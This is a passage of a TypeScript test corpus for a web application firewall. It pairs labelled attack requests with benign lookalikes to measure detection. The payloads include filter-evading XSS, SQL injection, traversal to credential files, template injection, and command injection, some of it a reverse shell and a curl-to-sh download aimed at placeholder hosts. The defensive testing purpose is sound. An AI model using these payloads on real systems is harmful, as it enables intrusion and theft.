  { category: 'prompt', name: 'holdout-3: PowerShell and cmd questions', why: 'Windows admins name type, dir and net user in prose', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('What is the PowerShell equivalent of type and dir? And how do I list local users without net user?') },
  { category: 'prompt', name: 'holdout-3: Python subprocess in a code block', why: 'subprocess in pasted code is content', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Why does this hang?\n\n```python\nimport subprocess\nout = subprocess.run(["ls", "-la"], capture_output=True)\nprint(out.stdout)\n```') },
  { category: 'prompt', name: 'holdout-3: arithmetic and comparisons with @ and brackets', why: 'Email handles, list indices and maths', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Ask @ana (team lead) whether items[2] > items[1]; 2^10 = 1024 and 10^3 = 1000.') },
  { category: 'read', name: 'holdout-3: a query for an endpoint list with a question mark', why: 'An API path with a query flag inside a search', path: '/api/search?q=%2Fapi%2Fitems%3Fexpand%20docs' },
  { category: 'read', name: 'holdout-3: an address in a query', why: 'Invitations by email address', path: '/api/users?email=ana%2Bfactory%40example.com' },
  { category: 'read', name: 'holdout-3: a file name with a version in parentheses', why: 'Files such as "summary version (2).pdf" in the path', path: '/api/files/summary%20version%20(2).pdf', headers: bearer },
  { category: 'read', name: 'holdout-3: a public host on a kubelet-like port', why: 'The loopback container and node API ports are only refused on loopback hosts', path: '/api/webhooks/test?url=https://hooks.example.com:10250/in', headers: bearer },
  { category: 'read', name: 'holdout-3: sentences that open with a command word', why: 'English such as "echo of the hills" or "find my invoices" starts with a shell verb and goes on with words', path: '/api/search?q=echo%20of%20the%20hills%20and%20find%20my%20invoices', headers: bearer },
  { category: 'write', name: 'holdout-3: a form sentence with "; more than"', why: 'A semicolon then a Windows command word in prose', method: 'POST', path: '/api/feedback', headers: form, body: 'comment=It+was+late%3B+more+than+that%2C+it+was+raining%3B+type+faster+next+time' },
  { category: 'read', name: 'holdout-3: a product search that starts with a short command name', why: 'ls, nc and zsh are also model names and words', path: '/api/search?q=ls%20400%20sedan%20price', headers: bearer },
  { category: 'read', name: 'holdout-3: searches that start with a command name', why: 'sudo, wget, env and whoami are also what people search the meaning of', path: '/api/search?q=wget%20vs%20curl%20difference&also=sudo%20meaning&topic=env%20vars%20in%20docker', headers: bearer },
  { category: 'read', name: 'holdout-3: union and select in a sentence', why: 'Two SQL words far apart in English', path: '/api/search?q=the%20union%20made%20a%20careful%20select%20of%20delegates', headers: bearer },
  { category: 'write', name: 'holdout-3: a Maven POM with schemaLocation pairs', why: 'An instance document names namespace-location pairs', method: 'POST', path: '/api/import', headers: { ...bearer, 'Content-Type': 'application/xml' }, body: '<?xml version="1.0"?><project xmlns="http://maven.apache.org/POM/4.0.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 https://maven.apache.org/xsd/maven-4.0.0.xsd"><modelVersion>4.0.0</modelVersion></project>' },
  { category: 'prompt', name: 'holdout-3: a prompt that opens with a command line', why: 'API bodies may start with the command they ask about', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('ls -la ./build prints nothing on my CI runner, why?') },
  { category: 'prompt', name: 'holdout-3: a one-line prompt with a pipeline', why: 'Shell pipelines to grep and tail in a question', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('cat app.log | grep -i error | tail -n 20 prints lines twice, and find . -name "*.ts" | xargs wc -l is slow; why?') },
  { category: 'prompt', name: 'holdout-3: a kubectl pipeline in a code span', why: 'A pipe to grep inside backticks in a question', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Why does `kubectl get pods -n factory | grep -v Running` show nothing?') },
  { category: 'prompt', name: 'holdout-3: a curl command with a JSON body to convert', why: "curl -d '{...}' read as JSON-based SQL (942550 on CRS 4)", method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Convert this curl to Python: curl -X POST https://api.example.com/v1/items -H \'Content-Type: application/json\' -d \'{"a":1}\'') },
  { category: 'prompt', name: 'holdout-3: a JavaScript condition with || on one line', why: 'if (… || …) read as a Windows IF command (932140)', method: 'POST', path: '/api/runs', headers: bearer, json: prompt("What's wrong with: if (user.role == 'admin' || user.id === 1) { grant(); }") },
  { category: 'prompt', name: 'holdout-3: a Python one-liner calling .json()', why: 'print(r.json()) read as a SQL function call (942151 on CRS 4)', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Write a Python script: import requests; r = requests.get(url, timeout=5); print(r.json())') },
  { category: 'prompt', name: 'holdout-3: a pasted access-log line', why: '"GET /api/agents HTTP/1.1" read as request smuggling (921110)', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Parse this log line: 127.0.0.1 - - [01/Dec/2026:10:00:00 +0000] "GET /api/agents HTTP/1.1" 200 512') },
  { category: 'prompt', name: 'holdout-3: a question about GraphQL introspection', why: 'A prompt may name __schema { … }; only a query field is a query', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('What does __schema { types { name } } return, and should introspection be off in production?') },
  { category: 'read', name: 'holdout-3: ordinary paths and words in headers and the path', why: 'A report path in a header, "or" between words in a path segment', path: '/api/docs/black%20or%20white%20themes', headers: { ...bearer, 'X-File-Path': 'reports/2026/q3-summary.csv', 'X-Callback-Url': 'https://hooks.example.com/in/abc' } },
  { category: 'prompt', name: 'holdout-3: inline HTML formatting inside words', why: 'H<sub>2</sub>O, E=mc<sup>2</sup> and <b>bold</b> text', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Format this: H<sub>2</sub>O boils at 100°C, E=mc<sup>2</sup>, and make <b>warning</b> bold; x<sub>i</sub> = 3.') },
  { category: 'prompt', name: 'holdout-3: ordinary Handlebars, Thymeleaf and Jinja templates', why: '#with on a context, th:text="*{name}" and |attr on a plain name', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Why is this empty? {{#with person}}{{firstName}}{{/with}} and <span th:text="*{name}"></span>, and {{ user|attr("email") }} in Jinja.') },
  { category: 'upload', name: 'holdout-3: a markdown file that quotes PHP and a script tag', why: 'Documentation may quote code; only image parts are read for it', method: 'POST', path: '/api/knowledge/docs', headers: bearer, form: up('php-notes.md', 'text/markdown', '# Notes\n\nA template starts with `<?php echo $title; ?>` and the page loads `<script src="/app.js"></script>`.\n') },
  { category: 'write', name: 'holdout-3: a GraphQL query with __typename', why: 'Apollo and Relay clients add __typename to every selection', method: 'POST', path: '/api/graphql', headers: bearer, json: { query: 'query { agents(first: 10) { __typename id name runs { __typename id status } } }' } },
  { category: 'write', name: 'holdout-3: a multipart note with line breaks', why: 'Multi-line text in a form upload', method: 'POST', path: '/api/files', headers: bearer, form: { fields: { notes: 'Trip report\nLocation: Berlin\nTo: the team\nDATA attached below' }, files: [{ field: 'file', filename: 'trip.csv', contentType: 'text/csv', content: 'day,km\n1,12\n' }] } },
  { category: 'read', name: 'path: quoted titles and apostrophes in slugs', why: 'Slugs keep quotes and words such as and/or', path: "/api/wiki/%22Rock%22%20and%20roll/O'Brien%20or%20Murphy", headers: bearer },
];

/** A value as base64, as a client or an evasive scanner sends it (padded; `flat` drops the padding). */
export const base64 = (s: string | Buffer, flat = false) => Buffer.from(s).toString('base64').replace(flat ? /=+$/ : /$^/, '');
const pct = encodeURIComponent;

/**
 * Payloads of the other classes sent base64-encoded in every place an API reads a whole value (public WAF suites
 * send a third of their cases so), and base64 that real clients send: opaque ids, cursors, signatures, files.
 */
export const ENCODED_ATTACKS: CorpusEntry[] = [
  { category: 'xss', name: 'base64: svg onload in a query parameter', why: 'An encoded handler passes every plain pattern', path: `/api/search?q=${pct(base64('<svg onload=alert(document.domain)>'))}` },
  { category: 'xss', name: 'base64: body onload with a raw + in the query', why: 'The alphabet\'s + sent unencoded reads as a space once parsed', path: `/api/search?q=${base64('<body onload=alert(origin)>')}` },
  { category: 'xss', name: 'base64: attribute breakout in a form field, unpadded', why: 'Padding dropped, as GoTestWAF\'s Base64Flat sends it', method: 'POST', path: '/api/feedback', headers: form, body: `comment=${pct(base64('"><img src=x onerror=prompt(1)>', true))}` },
  { category: 'xss', name: 'base64: script src in a multipart text field', why: 'A text part whose whole value is a token', method: 'POST', path: '/api/files', headers: bearer, form: { fields: { caption: base64('<script src=//evil.example/x.js></script>') }, files: [{ field: 'file', filename: 'a.csv', contentType: 'text/csv', content: 'a,b\n' }] } },
  { category: 'sqli', name: 'base64: time-based blind in a custom header', why: 'Apps decode context headers and build queries from them', path: '/api/runs', headers: { ...bearer, 'X-Request-Context': base64("1' AND SLEEP(5)-- -") } },
  { category: 'sqli', name: 'base64: tautology in a login form', why: 'A login that decodes its base64 username', method: 'POST', path: '/api/auth/login', headers: form, body: `username=${pct(base64("admin' OR '1'='1"))}&password=x` },
  { category: 'sqli', name: 'base64: UNION in a query parameter', why: 'Exfiltration through an encoded filter', path: `/api/items?filter=${pct(base64('1 UNION SELECT username, password FROM users--'))}` },
  { category: 'traversal', name: 'base64: traversal as the whole path', why: 'A path that is one token, decoded by a file handler', path: `/${base64('../../../../etc/shadow', true)}` },
  { category: 'cmdi', name: 'base64: curl piped to sh in a query', why: 'Download-and-run, encoded', path: `/api/tools/ping?host=${pct(base64(';curl http://203.0.113.9/x|sh'))}` },
  { category: 'cmdi', name: 'base64: reverse shell in a custom header', why: 'nc -e through an encoded header', path: '/api/health', headers: { 'X-Debug-Cmd': base64('| nc 198.51.100.7 4444 -e /bin/sh') } },
  { category: 'cmdi', name: 'base64: Jinja globals walk in a multipart field', why: 'Template injection reaching os.popen, encoded', method: 'POST', path: '/api/templates/preview', headers: bearer, form: { fields: { template: base64("{{config.__class__.__init__.__globals__['os'].popen('id').read()}}") } } },
  { category: 'cmdi', name: 'base64: server-side include in a query', why: 'SSI exec, encoded', path: `/api/pages?body=${pct(base64('<!--#exec cmd="id" -->'))}` },
  { category: 'nosql', name: 'base64: NoSQL $where in a query', why: 'An encoded filter object with server-side JavaScript', path: `/api/users?q=${pct(base64('{"$where": "sleep(5000)"}'))}` },
  { category: 'ldap', name: 'base64: LDAP filter breakout, unpadded', why: 'An encoded (uid=*) injection', path: `/api/directory?user=${base64('*)(uid=*))(|(uid=*', true)}` },
  { category: 'mail', name: 'base64: SMTP command after a line break, short token', why: 'A mail-injection payload of 8 bytes decoded', path: `/api/contact?subject=${pct(base64('\r\nQUIT\r\n', true))}` },
];

export const ENCODED_BENIGN: CorpusEntry[] = [
  { category: 'read', name: 'base64: a pagination cursor (base64 JSON)', why: 'APIs hand out base64 JSON cursors', path: `/api/runs?cursor=${pct(base64(JSON.stringify({ id: 98231, created_at: '2026-11-30T08:15:00Z', order: 'desc' })))}`, headers: bearer },
  { category: 'read', name: 'base64: an opaque id in the path and the query', why: 'Ids of random bytes', path: `/api/files/${base64(Buffer.from('9f3a61c07be24d18a5e0c2b7', 'hex'), true)}?version=${pct(base64(Buffer.from('c0ffee00deadbeef1234', 'hex')))}`, headers: bearer },
  { category: 'read', name: 'base64: a request signature header', why: 'HMAC signatures travel base64-encoded', path: '/api/agents', headers: { ...bearer, 'X-Signature': base64(Buffer.from('5d41402abc4b2a76b9719d911017c592aa8f1b0e7e3c5a6d9f0b1c2d3e4f5a6b', 'hex')) } },
  { category: 'read', name: 'base64: a shared view state of prose', why: 'A share link carries its title base64-encoded', path: `/dashboard/share?state=${pct(base64('Quarterly report for the sales team, draft 2 (select the best runs)'))}` },
  { category: 'read', name: 'base64: client credentials in a custom header', why: 'id:secret pairs, as Basic auth encodes them', path: '/api/agents', headers: { 'X-Client-Credentials': base64('client_42:s3cr3t-p4ss!') } },
  { category: 'read', name: 'base64: long words and base64url tokens', why: 'Single words and URL-safe tokens look like base64', path: '/api/search?q=authentication&state=dGhpcy1pcy1hLXN0YXRl_aGVsbG8-d29ybGQ&code=observability' },
  { category: 'write', name: 'base64: a thumbnail in a form field', why: 'Small images posted as data in a form', method: 'POST', path: '/api/users/42/avatar', headers: { ...bearer, ...form }, body: `thumbnail=${pct(base64(Buffer.from('89504e470d0a1a0a0000000d49484452000000100000001008060000001ff3ff61', 'hex')))}` },
  { category: 'write', name: 'base64: a shell script file in a JSON body', why: 'API bodies carry files base64-encoded; a deploy script is content', method: 'POST', path: '/api/knowledge/files', headers: bearer, json: { filename: 'deploy.sh', content_base64: base64('#!/bin/sh\nset -e\ncurl -fsSL https://get.example.com/install.sh | sh\nrm -rf /tmp/build; cat /etc/os-release\n') } },
  { category: 'write', name: 'base64: an HTML email template in a JSON body', why: 'Templates with script tags travel encoded in API bodies', method: 'POST', path: '/api/templates', headers: bearer, json: { name: 'welcome', html_base64: base64('<html><body onload="track()"><script src="/t.js"></script>Welcome!</body></html>') } },
];

/**
 * Hold-out 4 (2026-12-03, from the zones of a public WAF bypass suite, nemesida-waf/waf-bypass, run by hand): every
 * request header a client invents, not only the X- ones (RFC 6648 retired the prefix), base64 in a cookie, and a form
 * body sent without a Content-Type, which no body processor parses; beside them the headers and cookies that browsers,
 * SDKs and tracing send, and an in-app browser whose user agent names its Android package.
 */
const HOLDOUT_4_ATTACKS: CorpusEntry[] = [
  { category: 'xss', name: 'holdout-4: event handler in a custom header without the X- prefix', why: 'A tenant header an admin view shows as HTML', path: '/api/agents', headers: { ...bearer, 'Tenant-Context': '<img src=x onerror=alert(document.domain)>' } },
  { category: 'sqli', name: 'holdout-4: UNION in a custom header without the X- prefix', why: 'An account header that a handler puts into a query', path: '/api/runs', headers: { ...bearer, 'Account-Id': "1' UNION SELECT password FROM users--" } },
  { category: 'cmdi', name: 'holdout-4: download and run in a custom header without the X- prefix', why: 'A callback header that a tool passes to a shell', path: '/api/tools/ping', headers: { ...bearer, 'Callback-Host': 'example.com; curl http://198.51.100.7/x.sh | sh' } },
  { category: 'xss', name: 'holdout-4: base64 markup in a cookie', why: 'A view cookie that the page decodes and renders', path: '/dashboard/runs', headers: { Cookie: `theme=dark; view=${base64('<svg onload=alert(document.cookie)>')}` } },
  { category: 'sqli', name: 'holdout-4: base64 time-based blind in a custom header without the X- prefix', why: 'A context header decoded into a query', path: '/api/runs', headers: { ...bearer, 'Request-Context': base64("1' AND SLEEP(5)-- -") } },
  { category: 'xss', name: 'holdout-4: a form body without a Content-Type', why: 'No body processor parses it, so no rule reads its arguments; an application may still read it as a form', method: 'POST', path: '/api/feedback', headers: bearer, body: 'comment=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E&rating=5' },
  { category: 'sqli', name: 'holdout-4: a login body without a Content-Type', why: 'The same bypass with a tautology', method: 'POST', path: '/api/auth/login', body: "username=admin'%20OR%20'1'%3D'1&password=x" },
  // Script gadgets: a value reflected into a script or an attribute, with no tag and no dialog name in one piece
  { category: 'xss', name: 'holdout-4: a member of a global object called by an escaped name', why: 'An octal escape hides the function name from every filter', path: `/api/search?q=${pct("top['al\\145rt'](document.domain)")}` },
  { category: 'xss', name: 'holdout-4: a member of a global object called by a built name', why: 'The name is concatenated at run time', method: 'POST', path: '/api/feedback', headers: form, body: `comment=${pct("window[['a'][0]+'lert'](1337)")}` },
  { category: 'xss', name: 'holdout-4: a tagged template call in a cookie', why: 'call with a template literal needs no parentheses', path: '/dashboard/runs', headers: { Cookie: 'theme=dark; note=Array.prototype.sort.call`${alert}1337`' } },
  { category: 'xss', name: 'holdout-4: a dialog passed as a callback in the Referer', why: 'A method receives the dialog function and calls it', path: '/api/agents', headers: { ...bearer, Referer: 'https://app.factory.example.com/?next=[1,2,3].with(0,alert).shift()(1)' } },
  { category: 'xss', name: 'holdout-4: an event handler as a whole form value', why: 'Reflected into an open attribute list', method: 'POST', path: '/api/feedback', headers: form, body: `comment=${pct('onfocus=alert(document.domain) autofocus')}&rating=1` },
  { category: 'xss', name: 'holdout-4: HTML5 entities between the letters of a script URL', why: 'j&Tab;avascript&colon; reads as javascript: in a browser, and ModSecurity does not decode these entities', path: `/api/auth/callback?next=${pct('j&Tab;avascript&colon;alert(1)')}` },
  { category: 'xss', name: 'holdout-4: a dynamic import in a custom header', why: 'A header shown by an admin page that loads a remote module', path: '/api/health', headers: { 'Client-Note': "import('//evil.example/x.js')" } },
  { category: 'xss', name: 'holdout-4: the cookie read by a bracketed name in a JSON field', why: 'document["cookie"] passes filters that look for document.cookie', method: 'POST', path: '/api/notes', headers: bearer, json: { body: 'x";new Image().src="//evil.example/?"+document["cookie"];//' } },
  { category: 'protocol', name: 'holdout-4: CR/LF with each hex digit percent-encoded in the path', why: '%25%30%44%25%30%41 is %0D%0A once decoded: response splitting where the application decodes twice', path: '/api/auth/callback/%25%30%44%25%30%41Set-Cookie:session=attacker' },
  { category: 'lfi-rfi', name: 'holdout-4: a Windows system file in a cookie', why: 'The SAM backup of an NT system folder, through a template cookie', path: '/dashboard', headers: { Cookie: 'theme=dark; template=C:/WINNT/Repair/SAM' } },
  { category: 'cmdi', name: 'holdout-4: the Jinja self object in a form field', why: '{{self}} dumps the template context: the probe before a globals walk', method: 'POST', path: '/api/feedback', headers: form, body: `comment=${pct('{{self}}')}` },
  { category: 'scanner', name: 'holdout-4: a PHP web shell behind a path parameter', why: 'shell.php;.png passes an extension check that reads the end', path: '/uploads/shell.php;.png' },
  { category: 'scanner', name: 'holdout-4: the git folder', why: 'An exposed .git folder gives the source away', path: '/.git' },
  { category: 'scanner', name: 'holdout-4: a database dump at the root', why: 'Scanners guess backup archives', path: '/backup/db.sql.gz' },
  { category: 'cmdi', name: 'holdout-4: a command spelled with backslashes', why: 'A shell drops the backslashes: c\\a\\t /e\\t\\c/p\\a\\s\\swd runs cat /etc/passwd', path: `/api/tools/ping?host=${pct('127.0.0.1; c\\a\\t \\/e\\t\\c/p\\a\\s\\swd')}` },
  { category: 'cmdi', name: 'holdout-4: a command with empty variables in a custom header', why: '$u is unset: cat$u /etc$u/passwd runs cat /etc/passwd (a cookie cannot carry the ;: it separates cookies)', path: '/api/health', headers: { 'Probe-Host': 'example.com; cat$u /etc$u/passwd$u' } },
  { category: 'cmdi', name: 'holdout-4: a download spelled with quotes in a custom header', why: "c''url is curl to a shell", path: '/api/health', headers: { 'Callback-Url': "x| c''url -s http://198.51.100.7/x.sh" } },
  { category: 'sqli', name: 'holdout-4: a quote, a semicolon and a comment in a custom header', why: "admin'; -- - ends the statement after the name", path: '/api/me', headers: { ...bearer, 'Login-Hint': "admin'; -- -" } },
  { category: 'sqli', name: 'holdout-4: UNION DISTINCTROW in a header', why: 'MySQL\'s synonym of UNION DISTINCT', path: '/api/runs', headers: { ...bearer, 'Account-Id': "1' UNION DISTINCTROW SELECT password FROM users-- -" } },
  { category: 'xss', name: 'holdout-4: a dialog name joined from strings and called at once', why: "'ale'+'rt'() spells alert only at run time", path: '/api/health', headers: { 'Display-Name': "a'ale'+'rt'()" } },
  { category: 'xss', name: 'holdout-4: zero-padded numeric references around an argument', why: 'prompt&#0000000040;1&#0000000041; is prompt(1) to a browser, not to ModSecurity', path: `/api/search?q=${pct('prompt&#0000000040;1&#0000000041;')}` },
  { category: 'xss', name: 'holdout-4: XMLHttpRequest in the User-Agent', why: 'A log viewer that renders user agents runs it', path: '/api/health', headers: { 'User-Agent': "x=new XMLHttpRequest();x.open('GET','/api/me');x.send()" } },
];

const HOLDOUT_4_BENIGN: CorpusEntry[] = [
  { category: 'read', name: 'holdout-4: Facebook in-app browser on Android', why: 'Its user agent names the app package com.facebook.katana', path: '/dashboard/agents', headers: { 'User-Agent': 'Mozilla/5.0 (Linux; Android 14; SM-A546B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.71 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/471.0.0.35.80;FBPN/com.facebook.katana;FBLC/de_DE;]' } },
  { category: 'read', name: 'holdout-4: SDK, idempotency and trace headers', why: 'Version, organisation, idempotency and W3C trace headers carry no X- prefix', method: 'POST', path: '/api/runs', headers: { ...bearer, 'Anthropic-Version': '2023-06-01', 'OpenAI-Organization': 'org-9f3aB21c', 'Idempotency-Key': '5f0c1e8a-3b7d-4c1e-9a2f-0d6b8e4c7a11', traceparent: '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01', tracestate: 'congo=t61rcWkgMzE,rojo=00f067aa0ba902b7', baggage: 'userId=alice,serverNode=DF%2028,isProduction=false' }, json: { agent: 7, prompt: 'Summarise the last run.' } },
  { category: 'read', name: 'holdout-4: a browser\'s client hints and fetch metadata', why: 'Chrome sends quoted, semicolon-separated brand lists', path: '/dashboard/runs?tab=failed', headers: { 'User-Agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36', 'Sec-CH-UA': '"Not/A)Brand";v="8", "Chromium";v="126", "Google Chrome";v="126"', 'Sec-CH-UA-Mobile': '?0', 'Sec-CH-UA-Platform': '"Windows"', 'Sec-Fetch-Mode': 'navigate', 'Sec-Fetch-Site': 'same-origin', Priority: 'u=0, i' } },
  { category: 'read', name: 'holdout-4: a custom header with a name and apostrophes', why: 'Device names are prose', path: '/api/me', headers: { ...bearer, 'Device-Name': "Siobhán's MacBook Pro (work)" } },
  { category: 'read', name: 'holdout-4: base64 cookies', why: 'Preferences as base64 JSON and a CSRF token of random bytes', path: '/dashboard/agents', headers: { Cookie: `prefs=${base64(JSON.stringify({ theme: 'dark', lang: 'de', select: 'recent runs' }))}; csrftoken=${base64(Buffer.from('7c1f09ae44b2d38e5a6b0f1e2d3c4b5a69788796', 'hex'))}` } },
  { category: 'write', name: 'holdout-4: a POST without a body', why: 'Actions such as cancel send no body and no Content-Type', raw: 'POST /api/runs/5f0c1e8a/cancel HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer rt_9f8e7d6c\r\nContent-Length: 0\r\n\r\n' },
  { category: 'read', name: 'holdout-4: alert as a severity in lists', why: 'An ops platform filters by severities, one of them named alert', path: '/api/alerts?severity=warning,alert&levels=(info,alert)&sort=-created_at', headers: bearer },
  { category: 'write', name: 'holdout-4: a question about computed calls and tagged templates', why: 'Front-end code in a prompt (an API body)', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Why does window[handlerName](event) throw here, and what does String.raw.call`x` return? Also [1,2,3].with(0, alert) in the docs.') },
  { category: 'read', name: 'holdout-4: an export archive, a PHP slug and a Windows user path', why: 'Archives under /api are exports; a wiki page may be about PHP; a cookie may keep a document path', path: '/api/exports/runs-2026-11.zip', headers: { ...bearer, Cookie: 'last_file=C:/Users/ana/Documents/report.docx' } },
  { category: 'read', name: 'holdout-4: a wiki page about PHP', why: 'Slugs name languages and file types', path: '/api/wiki/php-vs-python/migrating-index.php-routes', headers: bearer },
  { category: 'write', name: 'holdout-4: semicolons before words that are commands', why: 'Prose: "; cat/dog photos", "; id cards", "; sleep well"', method: 'POST', path: '/api/feedback', headers: { ...bearer, ...form }, body: `comment=${pct("Loved it; cat/dog photos next time; id cards at the desk; sleep well, it's \"done\"")}` },
  { category: 'write', name: 'holdout-4: quoted words before a parenthesis', why: 'Instructions quote keys and words, then explain in parentheses', method: 'POST', path: '/api/feedback', headers: { ...bearer, ...form }, body: `comment=${pct("Type 'yes' 'no' (lowercase), press 'Ctrl' + 'C' (together)")}` },
  { category: 'write', name: 'holdout-4: a question about document.cookie', why: 'Front-end questions name the cookie API in a prompt', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('How do I read document.cookie in a Jest test, and why is it empty under jsdom?') },
  { category: 'write', name: 'holdout-4: form values that start with on', why: 'ongoing, onboarding, online and "on error" are words, /onload/settings a path', method: 'POST', path: '/api/feedback', headers: { ...bearer, ...form }, body: 'status=ongoing&topic=onboarding&comment=one-off%20fix%2C%20online%20now%3B%20on%20error%20we%20retry&next=%2Fonload%2Fsettings' },
];

/**
 * Hold-out 5 (2026-12-03, from the Intruder lists of a public payload collection, swisskyrepo/PayloadsAllTheThings,
 * replayed by hand as query values): Windows drive paths to setup answers, account profiles, server configs and
 * logs; traversal lists whose separators are spelled in encodings no decoder undoes; and SQL conditions appended to a
 * value (the boolean and column-count probes that the CRS leaves to paranoia level 2). Beside them: Windows document
 * paths, the hosts file and system32 named in prompts, and searches with numbers, comparisons and "order by".
 */
const HOLDOUT_5_ATTACKS: CorpusEntry[] = [
  { category: 'lfi-rfi', name: 'holdout-5: an unattended-setup answer file on a drive path', why: 'unattend.xml keeps the local administrator password', path: `/api/files?name=${pct('C:/windows/panther/unattend.xml')}` },
  { category: 'lfi-rfi', name: 'holdout-5: an administrator profile hive in a form field', why: 'ntuser.dat holds the account registry, credentials included', method: 'POST', path: '/api/feedback', headers: form, body: `attachment=${pct('C:/documents and settings/administrator/ntuser.dat')}` },
  { category: 'lfi-rfi', name: 'holdout-5: the Tomcat users file in a JSON field', why: 'tomcat-users.xml lists manager passwords', method: 'POST', path: '/api/templates/render', headers: bearer, json: { template: 'C:\\xampp\\tomcat\\conf\\tomcat-users.xml' } },
  { category: 'lfi-rfi', name: 'holdout-5: a server log on a drive path in a custom header', why: 'An access log to poison, then include', path: '/api/health', headers: { 'Template-Path': 'C:/apache2/log/access.log' } },
  { category: 'lfi-rfi', name: 'holdout-5: the repair copy of the registry', why: 'C:/windows/repair/system holds the boot key that decrypts SAM', path: `/api/files?name=${pct('C:/windows/repair/system')}` },
  { category: 'traversal', name: 'holdout-5: separators spelled as hex in a parameter', why: '..0x5cetc0x5cpasswd: a decoder that reads 0x5c as a backslash reaches /etc/passwd', path: `/api/files?name=${pct('..0x5c..0x5cetc0x5cpasswd')}` },
  { category: 'traversal', name: 'holdout-5: separators that are percent escapes without the percent', why: '..2f..2fetc2fpasswd: what is left when a filter strips % signs', path: `/api/files?name=${pct('..2f..2f..2fetc2fpasswd')}` },
  { category: 'traversal', name: 'holdout-5: doubled percent signs that decode into the path', why: '%%32%%66etc%%32%%66passwd decoded twice eats the e of etc', path: `/api/files?name=${pct('.?%%32%%66etc%%32%%66passwd')}` },
  { category: 'traversal', name: 'holdout-5: overlong separators to the hosts file', why: 'windows/system32/drivers/etc/hosts with each slash as an overlong UTF-8 sequence', path: `/api/files?name=${pct('%c0%ae%c0%ae%c0%afwindows%c0%afsystem32%c0%afdrivers%c0%afetc%c0%afhosts')}` },
  { category: 'traversal', name: 'holdout-5: boot.ini behind a percent-u separator', why: '%uF025 is read as a slash by some decoders', path: `/api/files?name=${pct('%c0%ae%c0%ae%uF025boot.ini')}` },
  { category: 'sqli', name: 'holdout-5: a tautology appended to a search', why: 'q=shoes OR 1=1 returns every row', path: `/api/search?q=${pct('shoes OR 1=1')}` },
  { category: 'sqli', name: 'holdout-5: a boolean probe with a balanced quote', why: '1 AND 7300=7300 AND \'pKlZ\'=\'pKlZ: sqlmap\'s true condition, its false twin differs', path: `/api/runs?id=${pct("1 AND 7300=7300 AND 'pKlZ'='pKlZ")}` },
  { category: 'sqli', name: 'holdout-5: HAVING and a comment in a cookie', why: 'An error probe: HAVING without GROUP BY names the columns in the error', path: '/api/me', headers: { Cookie: "sort=name HAVING 1=1-- " } },
  { category: 'sqli', name: 'holdout-5: a column count probe in a sort parameter', why: 'ORDER BY 12-- errors once 12 exceeds the columns: the step before a UNION', path: `/api/runs?sort=${pct('created_at ORDER BY 12-- ')}` },
  { category: 'sqli', name: 'holdout-5: a letter comparison and a hash comment in a custom header', why: 'OR x=y# is the false probe of a blind injection', path: '/api/runs', headers: { ...bearer, 'Account-Id': '5 OR x=y#' } },
  { category: 'sqli', name: 'holdout-5: a constant and a comment in a login form', why: 'admin OR true-- ends the password check', method: 'POST', path: '/api/auth/login', headers: form, body: `username=${pct('admin OR true-- ')}&password=x` },
  { category: 'cmdi', name: 'holdout-5: a Windows share listing after a separator', why: '&& net view lists the machines and shares of the network', path: `/api/tools/ping?host=${pct('127.0.0.1 && net view')}` },
  { category: 'cmdi', name: 'holdout-5: the firewall turned off in a form field', why: 'netsh firewall set opmode disable after a pipe', method: 'POST', path: '/api/tools/ping', headers: form, body: `host=${pct('x | netsh firewall set opmode disable')}` },
  { category: 'cmdi', name: 'holdout-5: ipconfig with a switch as a whole header value', why: 'A diagnostic header passed to a shell as it is', path: '/api/health', headers: { 'Diag-Command': 'ipconfig /all' } },
  { category: 'cmdi', name: 'holdout-5: a class walk without underscores in a template', why: '{{ [].class.base.subclasses() }} lists every loaded class (Jinja on some engines, Java templates)', path: `/api/templates/preview?body=${pct('{{ [].class.base.subclasses() }}')}` },
  { category: 'cmdi', name: 'holdout-5: a template sum whose plus is encoded', why: '{{4+4}} sent as %2B: URL decoding (urlDecodeUni) makes the + a space, so the operator must not be required', path: `/api/templates/preview?body=${pct('{{4+4}}')}` },
  { category: 'cmdi', name: 'holdout-5: a Twig filter handed a shell function', why: "{{['id']|filter('system')}} runs id in Twig 1.x/2.x", method: 'POST', path: '/api/feedback', headers: form, body: `comment=${pct("{{['id']|filter('system')}}")}` },
  { category: 'lfi-rfi', name: 'holdout-5: a server log behind separators without percent signs', why: '..2f..2fapache2flogs2faccess.log: the log to poison, then include', path: `/api/files?name=${pct('..2f..2fapache2flogs2faccess.log')}` },
  { category: 'lfi-rfi', name: 'holdout-5: a rooted Windows path without a drive letter in a cookie', why: '\\xampp\\tomcat\\conf\\tomcat-users.xml on the current drive', path: '/dashboard', headers: { Cookie: 'theme=dark; template=\\xampp\\tomcat\\conf\\tomcat-users.xml' } },
  { category: 'xss', name: 'holdout-5: a dialog kept under another name', why: 'a=alert,a(1) never spells alert( in one piece', path: `/api/search?q=${pct('a=alert,a(1)')}` },
  { category: 'xss', name: 'holdout-5: parentheses as HTML5 entities', why: 'alert&lpar;1&rpar; is alert(1) in an attribute, and ModSecurity does not decode &lpar;', path: `/api/search?q=${pct('alert&lpar;1&rpar;')}` },
